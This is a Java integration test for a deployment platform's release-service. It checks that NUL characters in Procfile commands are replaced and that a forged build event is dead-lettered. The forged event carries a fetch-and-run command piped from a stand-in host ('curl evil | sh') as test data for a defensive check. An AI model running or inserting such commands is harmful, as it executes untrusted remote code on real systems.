package dev.slipway.release;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertEquals;

import dev.slipway.devstack.ServiceTestResource;
import dev.slipway.devstack.TestEvents;
import dev.slipway.events.ApiKeyIssued;
import dev.slipway.events.AppCreated;
import dev.slipway.events.EventEnvelope;
import dev.slipway.events.ReleaseCreated;
import dev.slipway.events.SlugBuilt;
import dev.slipway.events.Topics;
import dev.slipway.kit.ApiKeys;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import java.util.UUID;
import org.apache.kafka.clients.admin.Admin;
import org.apache.kafka.clients.producer.internals.BuiltInPartitioner;
import org.eclipse.microprofile.config.ConfigProvider;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * The scenario: a Procfile command with a NUL, then another app's deploy on the same
 * partition of slipway.builds. Real: release-service, PostgreSQL and Kafka from devstack. Faked:
 * config-service and builder-service, whose events the test produces to Kafka itself.
 */
@QuarkusTest
@QuarkusTestResource(value = ServiceTestResource.class, initArgs = @ResourceArg(name = "service", value = "release"))
class UnstorableTextTest {
    private static Platform platform;

    @BeforeAll
    static void connect() {
        platform = new Platform();
    }

    @AfterAll
    static void disconnect() {
        if (platform != null) {
            platform.close();
        }
    }

    @Test
    void a_nul_in_a_command_is_replaced_and_the_next_apps_deploy_on_the_partition_is_released() throws Exception {
        Platform.TestApp tainted = platform.newApp();
        Platform.TestApp neighbour = newAppOnPartitionOf(tainted.id());
        long deadLettersBefore = deadLetters();

        platform.publish(ReleaseFlowTest.slug(tainted, "bad\u0000c0mmit", Map.of("web", "node\u0000server.js")));
        platform.publish(ReleaseFlowTest.slug(neighbour, "900d000", Map.of("web", "node server.js")));

        JsonPath next = ReleaseFlowTest.awaitReleases(neighbour, 1);
        assertEquals("Deploy 900d000", next.getString("[0].description"));
        JsonPath escaped = ReleaseFlowTest.awaitReleases(tainted, 1);
        assertEquals("Deploy bad\uFFFDc0m", escaped.getString("[0].description"));
        given().header("Authorization", tainted.bearer()).get("/apps/{app}/formation/web", tainted.name())
                .then().statusCode(200).body("command", equalTo("node\uFFFDserver.js"));
        ReleaseCreated announced = (ReleaseCreated) Platform.await(() -> platform.releaseEvents(tainted.id()),
                e -> !e.isEmpty()).getFirst().payload();
        assertEquals(Map.of("web", "node\uFFFDserver.js"), announced.processTypes());
        assertEquals(deadLettersBefore, deadLetters(), "escaped, not dead-lettered");
    }

    /** A SlugBuilt that builder-service did not send is dead-lettered, counted, and makes no release. */
    @Test
    void a_forged_slug_makes_no_release_and_is_counted() {
        Platform.TestApp app = platform.newApp();
        ReleaseFlowTest.awaitReleases(app, 0);
        long deadLettersBefore = deadLetters();
        SlugBuilt forged = ReleaseFlowTest.slug(app, "f0463d0", Map.of("web", "curl evil | sh"));
        platform.send(EventEnvelope.wrap(forged, "git-gateway"));
        platform.publish(ReleaseFlowTest.slug(app, "600d000", Map.of("web", "./run")));

        JsonPath releases = ReleaseFlowTest.awaitReleases(app, 1);
        assertEquals("Deploy 600d000", releases.getString("[0].description"));
        Platform.await(UnstorableTextTest::deadLetters, n -> n == deadLettersBefore + 1);
    }

    /** The kit's count, as readiness reports it to {@code ./slipway status}. */
    private static long deadLetters() {
        return given().get("/q/health/ready").then().statusCode(200).extract().jsonPath()
                .getLong("checks.find { it.name == 'slipway-kit' }.data.'release-service.dead_letters'");
    }

    /** config-service's events for a new app whose id is keyed to the same partition of slipway.builds. */
    private static Platform.TestApp newAppOnPartitionOf(UUID other) throws Exception {
        int partitions;
        Properties p = TestEvents.clientProperties(ConfigProvider.getConfig().getValue("kafka.bootstrap.servers", String.class));
        try (Admin admin = Admin.create(p)) {
            partitions = admin.describeTopics(List.of(Topics.BUILDS)).allTopicNames().get()
                    .get(Topics.BUILDS).partitions().size();
        }
        int target = partition(other, partitions);
        UUID id = UUID.randomUUID();
        while (partition(id, partitions) != target) {
            id = UUID.randomUUID();
        }
        UUID owner = UUID.randomUUID();
        String key = "key-" + UUID.randomUUID();
        String email = "n-" + owner.toString().substring(0, 8) + "@example.com";
        String name = "nb-" + id.toString().substring(0, 8);
        platform.publish(new ApiKeyIssued(owner, email, ApiKeys.hash(key), false));
        platform.publish(new AppCreated(id, name, owner, email, Instant.now()));
        Platform.TestApp app = new Platform.TestApp(id, name, owner, email, key);
        ReleaseFlowTest.awaitReleases(app, 0);
        return app;
    }

    private static int partition(UUID key, int partitions) {
        return BuiltInPartitioner.partitionForKey(key.toString().getBytes(StandardCharsets.UTF_8), partitions);
    }
}
